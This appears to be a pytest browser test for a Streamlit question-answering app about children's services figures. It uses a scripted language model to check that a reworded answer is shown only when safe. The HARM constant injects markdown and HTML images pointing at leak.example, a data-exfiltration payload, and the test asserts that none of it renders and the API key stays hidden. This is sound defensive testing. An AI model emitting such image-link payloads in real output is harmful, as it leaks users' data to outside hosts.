@@ -1,0 +1,103 @@
+"""The page with a scripted model, in Debian's Chromium: our answer first, then the freer one; nothing a model writes is followed or drawn."""
+
+import json
+import os
+import socket
+import subprocess
+import sys
+import time
+import urllib.request
+from pathlib import Path
+
+import pytest
+
+ROOT = Path(__file__).parents[2]
+sys.path.insert(0, str(ROOT / "tests" / "model"))
+from scripted_server import ScriptedServer, completion  # noqa: E402
+
+CHROMIUM = Path("/usr/bin/chromium")
+FLAGS = ["--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync"]
+WAIT = 30_000
+HARM = " ![x](http://leak.example/{F1}.png) <img src=http://leak.example/y.png> It fell by 12%."
+
+
+class Script:
+    """What the model does next."""
+
+    seconds, harms = 1.0, False
+
+    def play(self, request, sent):
+        given = json.loads(sent["messages"][-1]["content"])
+        time.sleep(self.seconds)
+        text = " ".join(given["claims"]).replace("{A1} had {F1} {P1}, a", "{P1}, {A1} had {F1}, which was a")
+        request.answer(completion(json.dumps({"paragraph": text + HARM if self.harms else text})))
+
+
+@pytest.fixture(scope="module")
+def tab(starter_store, tmp_path_factory):
+    """(page, script): the page opened in a browser, with a scripted model switched on."""
+    pytest.importorskip("langchain_openai", reason='pip install -c constraints.txt -e ".[llm]"')
+    sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed: pip install playwright")
+    if not CHROMIUM.exists():
+        pytest.skip(f"there is no browser at {CHROMIUM}: apt-get install chromium")
+    folder, script = tmp_path_factory.mktemp("model-page"), Script()
+    with socket.socket() as free:
+        free.bind(("127.0.0.1", 0))
+        port = free.getsockname()[1]
+    with ScriptedServer(script.play) as model, sync_api.sync_playwright() as playwright:
+        settings = {"CIN_NARRATIVE_STORE": str(starter_store), "CIN_NARRATIVE_FEEDBACK": str(folder / "f.jsonl"),
+                    "CIN_NARRATIVE_DRAFTS": str(folder / "drafts"), "CIN_NARRATIVE_MODEL": "scripted", "CIN_NARRATIVE_MODEL_URL": model.url,
+                    "CIN_NARRATIVE_MODEL_TIMEOUT": "60", "CIN_NARRATIVE_MODEL_LOG": str(folder / "log.jsonl"), "OPENAI_API_KEY": "sk-browser-secret"}  # fmt: skip
+        command = [sys.executable, "-m", "streamlit", "run", "streamlit_app.py", "--server.port", str(port), "--server.headless", "true"]
+        server = subprocess.Popen(command, cwd=ROOT, env={**os.environ, **settings}, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+        try:
+            _wait_for(f"http://127.0.0.1:{port}/_stcore/health")
+            browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=FLAGS)
+            page = browser.new_context(viewport={"width": 1280, "height": 1000}).new_page()
+            page.set_default_timeout(WAIT)
+            page.hosts = set()
+            page.on("request", lambda request: page.hosts.add(request.url.split("/")[2]))
+            page.goto(f"http://127.0.0.1:{port}/ask")
+            yield page, script, f"127.0.0.1:{port}"
+            browser.close()
+        finally:
+            server.terminate()
+            server.wait(20)
+
+
+def _wait_for(url: str) -> None:
+    for _ in range(300):
+        try:
+            urllib.request.urlopen(url, timeout=1)
+            return
+        except OSError:
+            time.sleep(0.1)
+    pytest.fail("the server did not start")
+
+
+def ask(page, question, answer):
+    box = page.get_by_test_id("stChatInput").get_by_role("textbox")
+    box.fill(question)
+    page.keyboard.press("Enter")
+    page.get_by_text(answer).last.wait_for()
+    page.get_by_role("button", name="Put this more freely").last.click()
+
+
+def test_the_freer_answer_takes_the_place_of_ours_and_a_harmful_one_never_does(tab):
+    page, script, own = tab
+    ask(page, "How many children in need did Derby have at 31 March 2016?", "Derby had 2,342")
+    page.get_by_text("is putting this more freely").wait_for()
+    assert page.get_by_text("Derby had 2,342").first.is_visible()
+    page.get_by_text("At 31 March 2016, Derby had 2,342").wait_for()
+    script.harms = True
+    ask(page, "How many referrals did Derby have in 2016?", "Derby had 3,582")
+    page.get_by_text("wording was not used, because").wait_for()
+    page.get_by_text("What was sent to the language model").last.click()
+    page.get_by_text("leak.example").first.wait_for()
+    assert page.locator("img[src*='leak.example'], a[href*='leak.example']").count() == 0
+    script.harms, script.seconds = False, 20.0
+    ask(page, "How many referrals did Derby have in 2015?", "in the year ending 31 March 2015")
+    page.get_by_role("button", name="Cancel").click()
+    page.get_by_text("was called off").wait_for()
+    assert page.hosts == {own}
+    assert "sk-browser-secret" not in page.content()
